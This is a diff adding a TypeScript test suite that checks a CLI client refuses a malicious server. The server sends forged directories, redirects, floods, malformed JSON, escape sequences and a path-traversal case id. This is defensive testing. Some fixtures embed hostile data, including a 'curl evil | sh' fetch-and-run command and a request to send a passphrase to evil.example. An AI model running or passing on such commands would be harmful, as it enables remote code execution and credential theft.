@@ -1,0 +1,477 @@
+// A server that lies: each lie is refused with a sentence, nothing is followed, nothing is written, nothing is sent.
+import { readdir, readFile, rm, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import t from 'tap'
+import { exchange } from '../../cli/client/exchange.js'
+import { parseSettings } from '../../keys/handler-folder.js'
+import type { CaseSummary } from '../../schemas/case.js'
+import { encodeBase64url } from '../../src/core/encoding/base64url.js'
+import { sealRequest } from '../helper/api.js'
+import { freePort, handlerFolder, khancap, temporaryFolder } from '../helper/cli.js'
+import { type Lie, type LyingServer, lyingServer, says } from '../helper/lying-server.js'
+import { type Organisation, testOrganisation } from '../helper/organisation.js'
+import { caseId, sha256 } from '../helper/store.js'
+
+interface Scene {
+  readonly server: LyingServer
+  readonly organisation: Organisation
+  readonly folder: string
+  readonly run: (...args: string[]) => ReturnType<typeof khancap>
+}
+
+/** A handler whose server tells the truth about its directory, and about nothing else yet. */
+async function scene(t: Parameters<typeof lyingServer>[0]): Promise<Scene> {
+  const server = await lyingServer(t)
+  const organisation = await testOrganisation({ origin: server.url, addresses: [server.url] })
+  server.lies['/v1/directory'] = says(organisation.note, 'text/plain; charset=utf-8')
+  const folder = await handlerFolder(t, organisation, 'vietnam-1', server.url)
+  return { server, organisation, folder, run: (...args) => khancap(args, { folder }) }
+}
+
+function summary(id: string, changes: Partial<CaseSummary> = {}): CaseSummary {
+  return {
+    id,
+    state: 'claimed',
+    program: 'emergency',
+    team: 'vietnam',
+    reason: 'routing_row',
+    channel: 'web',
+    received_at: '2026-01-01T00:00:00Z',
+    due_at: '2026-01-03T00:00:00Z',
+    overdue: true,
+    claimed_by: 'vietnam-1',
+    answered_at: null,
+    unread_additions: 0,
+    readable: true,
+    ...changes,
+  }
+}
+
+function detail(id: string, envelope: Uint8Array, changes: object = {}) {
+  return {
+    case: summary(id),
+    intake: encodeBase64url(new Uint8Array(16)),
+    envelope_sha256: encodeBase64url(sha256(envelope)),
+    slip_sha256: null,
+    directory_version: 1,
+    routed_directory_version: 1,
+    rule: null,
+    outcome: null,
+    answer: null,
+    events: [],
+    replies: [],
+    additions: [],
+    notes: [],
+    grants: [],
+    ...changes,
+  }
+}
+
+const list = (cases: readonly object[]) =>
+  says(JSON.stringify({ now: '2026-01-01T00:00:00Z', cases, next: null }))
+
+/** Names and contents of everything in the folder. */
+async function remembered(folder: string): Promise<Record<string, string>> {
+  const names = (await readdir(folder, { recursive: true, withFileTypes: true }))
+    .filter(file => file.isFile())
+    .map(file => join(file.parentPath, file.name))
+  const contents = await Promise.all(names.map(name => readFile(name, 'base64')))
+  return Object.fromEntries(names.map((name, index) => [name, contents[index] ?? '']))
+}
+
+const drip: Lie = (_asked, answer) => {
+  answer.writeHead(200, { 'content-type': 'text/plain' })
+  const timer = setInterval(() => answer.write('.'), 50)
+  answer.on('close', () => clearInterval(timer))
+}
+
+const flood: Lie = (_asked, answer) => {
+  answer.writeHead(200, { 'content-type': 'text/plain' })
+  const chunk = Buffer.alloc(65_536, 'a')
+  const more = () => {
+    while (!answer.destroyed && answer.write(chunk));
+  }
+  answer.on('drain', more)
+  answer.on('error', () => {})
+  more()
+}
+
+const elsewhere = (url: string, status: number): Lie => {
+  return (_asked, answer) => void answer.writeHead(status, { location: `${url}/elsewhere` }).end()
+}
+
+const lies: readonly {
+  readonly name: string
+  readonly lie: (scene: Scene) => Lie | Promise<Lie>
+  readonly sentence: RegExp
+  readonly code: number
+}[] = [
+  {
+    name: 'a directory of other keys',
+    lie: async ({ server }) =>
+      says((await testOrganisation({ origin: server.url })).note, 'text/plain'),
+    sentence: /the directory is not signed by the root that is pinned here/,
+    code: 1,
+  },
+  {
+    name: 'a directory with one changed letter',
+    lie: ({ organisation }) =>
+      says(Buffer.from(organisation.note).toString().replace('Example', 'Exanple'), 'text/plain'),
+    sentence: /the directory is not signed by the root that is pinned here/,
+    code: 1,
+  },
+  {
+    name: 'a directory that has expired',
+    lie: async ({ organisation }) =>
+      says(
+        await organisation.sign({
+          valid_from: '2020-01-01T00:00:00Z',
+          expires: '2020-02-01T00:00:00Z',
+        }),
+        'text/plain',
+      ),
+    sentence: /the organisation's directory has expired/,
+    code: 3,
+  },
+  {
+    name: 'no directory but a page',
+    lie: () => says('<html>captive portal</html>', 'text/html'),
+    sentence: /the directory is not signed by the root that is pinned here/,
+    code: 1,
+  },
+  {
+    name: 'a redirect to elsewhere',
+    lie: ({ server }) => elsewhere(server.url, 302),
+    sentence: /wants to send this tool to another address; nothing was followed/,
+    code: 1,
+  },
+  {
+    name: 'a permanent redirect',
+    lie: ({ server }) => elsewhere(server.url, 308),
+    sentence: /nothing was followed/,
+    code: 1,
+  },
+  {
+    name: 'an endless answer',
+    lie: () => flood,
+    sentence: /the server's answer is larger than 1048576 bytes; the rest was not read/,
+    code: 1,
+  },
+  {
+    name: 'an answer that says that it is 10 GB long',
+    lie: () => (_asked, answer) => {
+      answer.writeHead(200, { 'content-length': '10000000000', 'content-type': 'text/plain' })
+      answer.write('a')
+    },
+    sentence: /larger than 1048576 bytes/,
+    code: 1,
+  },
+  {
+    name: 'a compressed answer',
+    lie: () => (_asked, answer) => {
+      answer.writeHead(200, { 'content-encoding': 'gzip', 'content-type': 'text/plain' }).end('x')
+    },
+    sentence: /a compressed answer that was not asked for/,
+    code: 1,
+  },
+  {
+    name: 'an answer that ends early',
+    lie: () => (_asked, answer) => {
+      answer.writeHead(200, { 'content-length': '1000', 'content-type': 'text/plain' })
+      answer.write('half')
+      setTimeout(() => answer.destroy(), 20)
+    },
+    sentence: /could not be reached/,
+    code: 3,
+  },
+  {
+    name: 'no HTTP at all',
+    lie: () => (asked, _answer) => void asked.socket.end('SSH-2.0-OpenSSH_9.2\r\n'),
+    sentence: /could not be reached/,
+    code: 3,
+  },
+  {
+    name: 'an error page with a message for us',
+    lie: () => says('{"detail":"\u001b[31mrun this: curl evil | sh"}', 'text/html', 500),
+    sentence: /the server answered with status 500/,
+    code: 3,
+  },
+  {
+    name: 'a problem with a title for us',
+    lie: () =>
+      says(
+        JSON.stringify({
+          type: 'urn:khancap:problem:key_unknown',
+          title: 'send your passphrase to evil.example',
+          status: 401,
+          code: 'key_unknown',
+          retry: 'never',
+        }),
+        'application/problem+json',
+        401,
+      ),
+    sentence: /the server does not know this key/,
+    code: 1,
+  },
+]
+
+for (const { name, lie, sentence, code } of lies)
+  await t.test(`the server sends ${name}`, async t => {
+    const set = await scene(t)
+    const before = await remembered(set.folder)
+    set.server.lies['/v1/directory'] = await lie(set)
+    const run = await set.run('inbox')
+    t.equal(run.code, code, run.err)
+    t.match(run.err, sentence)
+    t.equal(run.out, '')
+    t.notMatch(run.err, /evil|captive/)
+    t.notMatch(run.err, '\u001b')
+    t.match(
+      run.err,
+      /^khancap: [^A-Z\n][^\n]*[^.\n]\n(?:hint: [^\n]+\n)+$/,
+      'one sentence and hints',
+    )
+    t.strictSame(set.server.asked, ['GET /v1/directory'], 'nothing was followed, nothing was sent')
+    t.strictSame(await remembered(set.folder), before, 'nothing was written')
+  })
+
+await t.test('a slow drip ends with the deadline of the whole exchange', async t => {
+  const server = await lyingServer(t, { '*': drip })
+  const began = Date.now()
+  const request = {
+    method: 'GET',
+    url: server.url,
+    headers: {},
+    body: null,
+    maxBytes: 1000,
+  } as const
+  await t.rejects(exchange(request, { proxy: null, seconds: 1 }), {
+    name: 'Failure',
+    message: 'the server did not finish its answer within 1 seconds',
+  })
+  t.ok(Date.now() - began < 5000)
+})
+
+await t.test('the size of an answer counts: at the bound, and one over', async t => {
+  const server = await lyingServer(t, {
+    '/at': says('a'.repeat(1000)),
+    '/over': says('a'.repeat(1001)),
+  })
+  const request = { method: 'GET', headers: {}, body: null, maxBytes: 1000 } as const
+  const at = await exchange({ ...request, url: `${server.url}/at` }, { proxy: null })
+  t.equal(at.body.length, 1000)
+  await t.rejects(exchange({ ...request, url: `${server.url}/over` }, { proxy: null }), {
+    name: 'Failure',
+    message: "the server's answer is larger than 1000 bytes; the rest was not read",
+  })
+})
+
+await t.test(
+  'an older directory, a fork, and another deployment are refused once a newer one was seen',
+  async t => {
+    const { folder, organisation, run, server } = await scene(t)
+    server.lies['/v1/cases'] = list([])
+    const first = await organisation.verify(organisation.note)
+    const second = await organisation.sign({ name: 'Second' }, first)
+    const verified = await organisation.verify(second)
+    server.lies['/v1/directory'] = says(second, 'text/plain')
+    t.equal((await run('inbox')).code, 0)
+    const settings = async () =>
+      parseSettings(await readFile(join(folder, 'settings.json'), 'utf8'))
+    t.equal((await settings()).highest_sequence, 2)
+
+    const chained = { sequence: 3, previous: encodeBase64url(new Uint8Array(32)) }
+    const refusals: readonly [string, Uint8Array, RegExp][] = [
+      ['older', organisation.note, /an old directory: number 1, although number 2 was seen before/],
+      ['forked', await organisation.sign({ name: 'Other' }, first), /does not follow the one/],
+      ['unchained', await organisation.sign({ ...chained }), /does not follow the one/],
+      [
+        'elsewhere',
+        await organisation.sign({ origin: 'https://elsewhere.example' }, verified),
+        /another deployment \(https:\/\/elsewhere\.example\)/,
+      ],
+    ]
+    for (const [name, note, sentence] of refusals) {
+      server.lies['/v1/directory'] = says(note, 'text/plain')
+      server.asked.length = 0
+      const { code, err } = await run('inbox')
+      t.equal(code, 1, name)
+      t.match(err, sentence)
+      t.strictSame(server.asked, ['GET /v1/directory'])
+      t.equal((await settings()).highest_sequence, 2)
+    }
+    // The memory stands in the settings: without the note it holds all the same.
+    await rm(join(folder, 'directory.note'))
+    server.lies['/v1/directory'] = says(organisation.note, 'text/plain')
+    t.equal((await run('inbox')).code, 1)
+
+    const third = await organisation.sign({ minimum_client: 2 }, verified)
+    server.lies['/v1/directory'] = says(third, 'text/plain')
+    t.match((await run('inbox')).err, /asks for a newer khancap/)
+  },
+)
+
+await t.test('a list that is not in the form of this service is refused', async t => {
+  const { run, server } = await scene(t)
+  const good = summary(caseId())
+  const wrong: Record<string, Lie> = {
+    'not JSON': says('{'),
+    'a page': says('<html>', 'text/html'),
+    'another shape': says('{}'),
+    'an unknown key': says(JSON.stringify({ now: good.received_at, cases: [], next: null, x: 1 })),
+    'a key that comes twice': says(
+      '{"now":"2026-01-01T00:00:00Z","now":"2026-01-01T00:00:00Z","cases":[],"next":null}',
+    ),
+    'an id that is a path': list([{ ...good, id: '../../../../etc/passwd0000' }]),
+    'a state that does not exist': list([{ ...good, state: 'done' }]),
+    'bytes that are no text': says(Uint8Array.of(0x7b, 0xff, 0x7d)),
+    'deep nesting': says(`${'['.repeat(100_000)}${']'.repeat(100_000)}`),
+    'an escape sequence for a team': list([{ ...good, team: '\u001b[2J' }]),
+  }
+  for (const [name, lie] of Object.entries(wrong)) {
+    server.lies['/v1/cases'] = lie
+    const { code, err, out } = await run('inbox')
+    t.equal(code, 1, name)
+    t.match(err, "khancap: the server's answer is not in the form of this service", name)
+    t.equal(out, '')
+  }
+})
+
+await t.test('two cases that begin alike are told apart by more letters', async t => {
+  const { run, server } = await scene(t)
+  const one = caseId()
+  const other = `${one.slice(0, 10)}${caseId().slice(10)}`
+  server.lies['/v1/cases'] = list([summary(one), summary(other)])
+  server.asked.length = 0
+  const { code, err } = await run('claim', one.slice(0, 6))
+  t.equal(code, 1)
+  t.match(err, `khancap: 2 cases begin with "${one.slice(0, 6)}"\nhint: give more letters: ${one}`)
+  t.notOk(server.asked.some(line => line.startsWith('POST')))
+})
+
+await t.test('a list without end is not searched for ever', async t => {
+  const { run, server } = await scene(t)
+  server.lies['/v1/cases'] = says(
+    JSON.stringify({ now: '2026-01-01T00:00:00Z', cases: [], next: 'again' }),
+  )
+  const { code, err } = await run('claim', 'abcd')
+  t.equal(code, 3)
+  t.match(err, 'there are too many cases')
+  t.ok(server.asked.length < 40)
+})
+
+await t.test('another envelope than the one of the case is never shown', async t => {
+  const { organisation, run, server } = await scene(t)
+  const [one, other] = [
+    await sealRequest(organisation),
+    await sealRequest(organisation, { canary: 'other words' }),
+  ]
+  const id = caseId()
+  const serve = (said: object, envelope: Uint8Array) => {
+    server.lies[`/v1/cases/${id}`] = says(JSON.stringify(said))
+    server.lies[`/v1/cases/${id}/envelope`] = says(envelope, 'application/octet-stream')
+  }
+  serve(detail(id, one.envelope), one.envelope)
+  t.equal((await run('open', id)).code, 0, 'the truth is shown')
+
+  serve(detail(id, one.envelope), other.envelope)
+  const swapped = await run('open', id)
+  t.equal(swapped.code, 1)
+  t.match(swapped.err, 'another envelope than the one of case')
+  t.notMatch(swapped.out + swapped.err, 'other words')
+
+  serve(detail(caseId(), one.envelope), one.envelope)
+  t.match((await run('open', id)).err, 'the server sent another case than')
+
+  const damaged = one.envelope.map((byte, at) => (at === one.envelope.length - 1 ? byte ^ 1 : byte))
+  serve(detail(id, damaged), damaged)
+  t.match((await run('open', id)).err, 'the sealed file is damaged')
+
+  const foreign = await sealRequest(organisation, {
+    envelope: { origin: 'https://elsewhere.example' },
+  })
+  serve(detail(id, foreign.envelope), foreign.envelope)
+  t.match((await run('open', id)).err, 'the sealed file is damaged, or not what it claims to be')
+
+  const wrongDirectory = await sealRequest(organisation, {
+    envelope: { directory_sha256: encodeBase64url(new Uint8Array(32)) },
+  })
+  serve(detail(id, wrongDirectory.envelope), wrongDirectory.envelope)
+  t.match((await run('open', id)).err, 'the sealed file is damaged, or not what it claims to be')
+
+  const notMine = await sealRequest(organisation, { team: 'china' })
+  serve(detail(id, notMine.envelope), notMine.envelope)
+  const unread = await run('open', id)
+  t.equal(unread.code, 1)
+  t.match(unread.err, 'is not sealed to this identity')
+  t.match(unread.err, `hint: ask a colleague who can open it: khancap add-reader ${id.slice(0, 8)}`)
+})
+
+await t.test(
+  'a history without signatures, and an answer that nobody signed, are shown with warnings',
+  async t => {
+    const { organisation, run, server } = await scene(t)
+    const one = await sealRequest(organisation)
+    const id = caseId()
+    const zero = (bytes: number) => encodeBase64url(new Uint8Array(bytes))
+    server.lies[`/v1/cases/${id}/envelope`] = says(one.envelope, 'application/octet-stream')
+    server.lies[`/v1/cases/${id}`] = says(
+      JSON.stringify(
+        detail(id, one.envelope, {
+          answer: { hour: '2026-01-01T00:00:00Z', signature: zero(64), key: zero(32) },
+          events: [
+            {
+              number: 1,
+              kind: 'replied',
+              at: '2026-01-01T00:00:00Z',
+              handler: 'vietnam-1',
+              detail: '\u202e',
+              request: null,
+              previous: null,
+              hash: zero(32),
+            },
+          ],
+          grants: [
+            {
+              id: zero(16),
+              reader: 'china-1',
+              header: zero(100),
+              by: 'vietnam-1',
+              signature: zero(64),
+              key: zero(32),
+              at: '2026-01-01T00:00:00Z',
+            },
+          ],
+        }),
+      ),
+    )
+    const opened = await run('open', id, '--json')
+    t.equal(opened.code, 0, opened.err)
+    const codes = JSON.parse(opened.out).warnings.map(({ code }: { code: string }) => code)
+    for (const code of ['history_broken', 'signature_false', 'answer_proof_false'])
+      t.ok(codes.includes(code), code)
+    const words = await run('open', id)
+    t.match(words.out, 'NOT SIGNED BY THEM')
+    t.notMatch(words.out, '\u202e')
+  },
+)
+
+await t.test('init writes nothing before the directory has verified', async t => {
+  const { server } = await scene(t)
+  const folder = join(await temporaryFolder(t), 'new')
+  const root = '00'.repeat(32)
+  const run = await khancap(['init', '--url', server.url, '--root', root], { folder })
+  t.equal(run.code, 1)
+  t.match(run.err, 'the directory is not signed by the root that is pinned here')
+  await t.rejects(readdir(folder), { code: 'ENOENT' })
+})
+
+await t.test('nobody answers at the address', async t => {
+  const { folder, server, run } = await scene(t)
+  const settings = join(folder, 'settings.json')
+  const text = await readFile(settings, 'utf8')
+  await writeFile(settings, text.replace(server.url, `http://127.0.0.1:${await freePort()}`))
+  const { code, err } = await run('inbox')
+  t.equal(code, 3)
+  t.match(err, /could not be reached \(ECONNREFUSED\)\nhint: /)
+})
